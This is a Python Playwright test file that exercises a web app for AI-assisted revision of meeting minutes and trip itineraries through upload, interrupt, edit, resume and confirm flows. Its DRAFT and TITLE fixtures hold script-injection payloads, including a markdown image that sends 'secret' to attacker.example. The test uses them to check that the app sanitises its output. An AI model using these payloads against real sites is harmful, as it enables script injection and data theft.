"""A person brings minutes to a confirmation in the browser, against the whole stack."""

from __future__ import annotations

import asyncio
import re
from urllib.parse import urlsplit

import pytest
from playwright.async_api import BrowserContext, expect

from deploy.offline_model.server import OfflineModel
from tests import sounds
from tests.eventually import eventually
from tests.pages.conftest import Tab
from tests.stack import Stack

pytestmark = pytest.mark.browser

SOURCE = """\
Anna: Good morning. Ben and Chen are here as well.
Ben: The budget is 12,500 euro, not more.
Chen: We ship the prototype on Thursday 14 May.
Anna: Ben owns the casing, Chen the buttons.
Ben: We order 25 units for the test.
"""
DRAFT = """\
# Minutes

## Decisions

- The budget is 15,200 euro.
- The prototype ships on Thursday 14 May.

## Actions

- Ben: the casing.
- Chen: the buttons.
- 35 units are ordered for the test.

<img src=x onerror=alert(1)> ![x](https://attacker.example/?q=secret) [go](javascript:alert(1))
"""
TITLE = "</title><script>alert(1)</script> Kick-off"


async def test_files_are_seen_before_anything_starts(tab: Tab) -> None:
    """How each file is read, and what the run will take; taken away again, nothing is left."""
    page = tab.page
    await tab.open("/runs/new?kind=minutes")
    said = "李娜：预算是 25 万元。\n王强：周五发布。\n".encode("gb18030")
    files = [
        {"name": "会议.txt", "mimeType": "text/plain", "buffer": said},
        {"name": "bad.txt", "mimeType": "text/plain", "buffer": b"a\x00b"},
    ]
    await page.get_by_label("Transcripts or notes").set_input_files(files)  # type: ignore[arg-type]
    read = page.locator("#brought")
    await expect(read).to_contain_text("gb18030")
    await expect(read).to_contain_text("cannot be stored")
    await page.get_by_role("button", name="Remove bad.txt").click()
    await expect(page.locator("#look")).to_contain_text("You confirm")
    await page.get_by_role("button", name="Remove 会议.txt").click()
    await expect(read).to_be_empty()


async def test_start_watch_interrupt_edit_resume_confirm(
    tab: Tab, model: tuple[OfflineModel, str]
) -> None:
    page, offline = tab.page, model[0]
    offline.rate = 12
    await tab.open("/runs/new?kind=minutes")
    await expect(page.get_by_text("Simulated model.")).to_be_visible()

    # A refusal stands beside its field and loses nothing.
    await page.get_by_text("Paste text instead").click()
    await page.get_by_label("Draft", exact=True).fill(DRAFT)
    await page.get_by_label("Source", exact=True).fill(SOURCE)
    await page.get_by_label("Rounds at most").fill("99")
    await page.get_by_role("button", name="Start the run").click()
    await expect(page.get_by_label("Rounds at most")).to_have_attribute("aria-invalid", "true")
    await expect(page.locator("#f-max_rounds-error")).to_have_text("This number is too large.")
    await expect(page.get_by_label("Draft", exact=True)).to_have_value(DRAFT)

    # Two clicks are one run.
    await page.get_by_label("Title").fill(TITLE)
    await page.get_by_label("Rounds at most").fill("4")
    await page.get_by_role("button", name="Start the run").dblclick()
    await expect(page.get_by_role("heading", level=1)).to_have_text(TITLE)
    await expect(page.locator(".stream").first).to_contain_text("items")
    await expect(page.get_by_text("Live", exact=True)).to_be_visible()

    await page.get_by_label("Why (may stay empty)").fill("a figure is missing")
    await page.get_by_role("button", name="Interrupt").click()
    state = page.locator(".state-word")
    await expect(state).to_contain_text("Interrupted")
    await expect(page.locator(".state").get_by_text("Interrupted by local.")).to_be_visible()
    await expect(page.locator("[data-region=steps]")).to_contain_text("Stopped")

    offline.rate = 0
    await page.get_by_text("Edit the text first").click()
    text = page.get_by_label("Text of the document")
    await text.fill(DRAFT.replace("- Chen: the buttons.", "- Chen: the buttons, by 14 May."))
    await page.get_by_role("button", name="Resume").click()
    await expect(state).to_contain_text("Needs you")  # without a reload: by events
    await expect(page.locator("[data-region=changes] ins").first).to_be_visible()

    offered = page.get_by_role("button", name=re.compile(r"Confirm revision \d+"))
    await offered.click()
    await expect(state).to_contain_text("Confirmed")
    shown = page.locator("[data-region=text]")
    await expect(shown).to_contain_text("12,500 euro")
    await expect(shown).to_contain_text("the buttons, by 14 May.")
    await expect(shown.locator("img")).to_have_count(0)

    here = urlsplit(page.url).path
    await tab.open("/runs?q=Kick-off")
    await page.locator(f'tbody a.title[href="{here}"]').click()
    await page.get_by_role("link", name="All revisions").click()
    await expect(page.get_by_role("heading", level=1)).to_contain_text("Kick-off")


async def test_what_is_typed_outlives_the_page_and_a_text_of_somebody_else(
    tab: Tab, site: Stack, model: tuple[OfflineModel, str]
) -> None:
    model[0].rate = 1
    source = {"name": "transcript", "media_type": "text/plain", "text": SOURCE}
    body = {"kind": "minutes", "title": "Weekly", "body": DRAFT, "sources": [source]}
    run = await site.create(body)
    await site.call("POST", f"/api/runs/{run['id']}/interrupt", {})
    await tab.open(f"/runs/{run['id']}")
    page = tab.page
    await expect(page.locator(".state-word")).to_contain_text("Interrupted")
    await page.get_by_text("Edit the text first").click()
    text = page.get_by_label("Text of the document")
    await text.fill("mine")

    theirs = {"base_revision": 0, "body": DRAFT + "\ntheirs\n"}
    path = f"/api/documents/{run['document_id']}/revisions"
    assert (await site.call("POST", path, theirs))[0] == 201
    await expect(page.get_by_text("Edit the text first (revision 1)")).to_be_visible()
    await expect(text).to_have_value("mine")
    await expect(text).to_be_focused()
    await page.get_by_role("button", name="Resume").click()
    await expect(page.get_by_role("alert")).to_be_visible()
    await expect(text).to_have_value("mine")
    await expect(page.locator(".state-word")).to_contain_text("Interrupted")


async def test_eight_tabs_of_one_browser_stay_live_on_one_stream(
    tab: Tab, context: BrowserContext, site: Stack, model: tuple[OfflineModel, str]
) -> None:
    model[0].rate = 1  # the review's reply lasts longer than the test
    source = {"name": "transcript", "media_type": "text/plain", "text": SOURCE}
    body = {"kind": "minutes", "title": "Weekly", "body": DRAFT, "sources": [source]}
    runs = [await site.create(body) for _ in range(2)]
    pages = [await context.new_page() for _ in range(8)]
    streams: list[str] = []
    for page in pages:
        page.on("request", lambda r: streams.append(r.url) if "/events" in r.url else None)
    for number, page in enumerate(pages):
        await page.goto(f"{tab.origin}/runs/{runs[number % 2]['id']}")
    for page in pages:
        await expect(page.get_by_text("Live", exact=True)).to_be_visible()
    assert all("/api/events?runs=" in url for url in streams)
    await asyncio.gather(
        *(site.call("POST", f"/api/runs/{run['id']}/interrupt", {}) for run in runs)
    )
    for page in pages:
        await expect(page.locator(".state-word")).to_contain_text("Interrupted")
        assert not await page.evaluate("document.hidden")


async def test_a_trip_stopped_after_three_days_goes_on_with_the_fourth(
    tab: Tab, site: Stack, model: tuple[OfflineModel, str]
) -> None:
    page, offline = tab.page, model[0]
    offline.rate = 400
    await tab.open("/runs/new?kind=itinerary")
    await page.get_by_role("button", name="Run the sample trip").click()
    await page.wait_for_url(re.compile(r"/runs/[0-9a-f-]{36}$"))
    run_id = page.url.rpartition("/")[2]

    async def three_days() -> bool:
        return len(await site.rows(run_id, "items")) >= 3

    await eventually(three_days, seconds=30, what="three days")
    offline.rate = 1
    output = page.locator("[data-region=output]")
    await expect(output).to_contain_text("Day 3")
    await page.get_by_role("button", name="Interrupt").click()
    state = page.locator(".state-word")
    await expect(state).to_contain_text("Interrupted")
    await expect(output).to_contain_text("will not be asked for again")
    kept = [item["key"] for item in await site.rows(run_id, "items")]
    offline.rate = 0
    await page.get_by_role("button", name="Resume").click()
    await expect(state).to_contain_text("Needs you")
    brought = page.get_by_role("region", name="Which call brought what").locator("tbody tr")
    days = [await brought.nth(n).locator("td").first.inner_text() for n in range(2)]
    first, second = (day.split(", ") for day in days)
    assert (first, len(first) + len(second)) == (kept, 5), "each day is asked for once"


async def test_a_recording_plays_from_a_line_of_its_transcript_and_as_evidence(
    tab: Tab, site: Stack, model: tuple[OfflineModel, str]
) -> None:
    model[0].rate = 0
    said = "[00:00:00] Ana: We begin.\n[00:00:02] Ana: The budget is 12,500 euro."
    sound = sounds.wav([(4.0, True)])
    files = {"audio": ("talk.wav", sound), "source": ("talk.txt", said.encode())}
    fields = {"kind": "minutes", "title": "Weekly", "body": "- The budget is 15,200 euro.\n"}
    answer = await site.http.post("/api/documents", data=fields, files=files)
    assert answer.status_code == 201, answer.text
    await tab.open(f"/documents/{answer.json()['id']}")
    page, opened = tab.page, tab.page.url
    await page.locator("details.recorded > summary").click()
    await page.get_by_title("Play from here").nth(1).click()

    async def plays() -> bool:
        heard = "audio => audio.played.length > 0 && audio.played.start(0) > 1.9"
        return bool(await page.locator("audio").evaluate(heard))

    await eventually(plays, seconds=30, what="sound from the second line on")
    assert page.url == opened, "without the script the link opens the recording"
    await page.get_by_text("Add a recording").click()
    await tab.check()

    run = await _run_of(site, answer.json()["id"])
    await tab.open(f"/runs/{run}/review")
    await page.locator(".evidence").get_by_title("Play from here").first.click()
    await eventually(plays, seconds=30, what="sound of the evidence")
    assert "/review" in page.url, "without the script the link opens the recording"


async def _run_of(site: Stack, document_id: str) -> str:
    """A run of a document, waiting for a person."""
    code, run = await site.call("POST", f"/api/documents/{document_id}/runs", {})
    assert code == 201, run
    await site.until(run["id"], "AWAITING_CONFIRMATION", seconds=60)
    return str(run["id"])
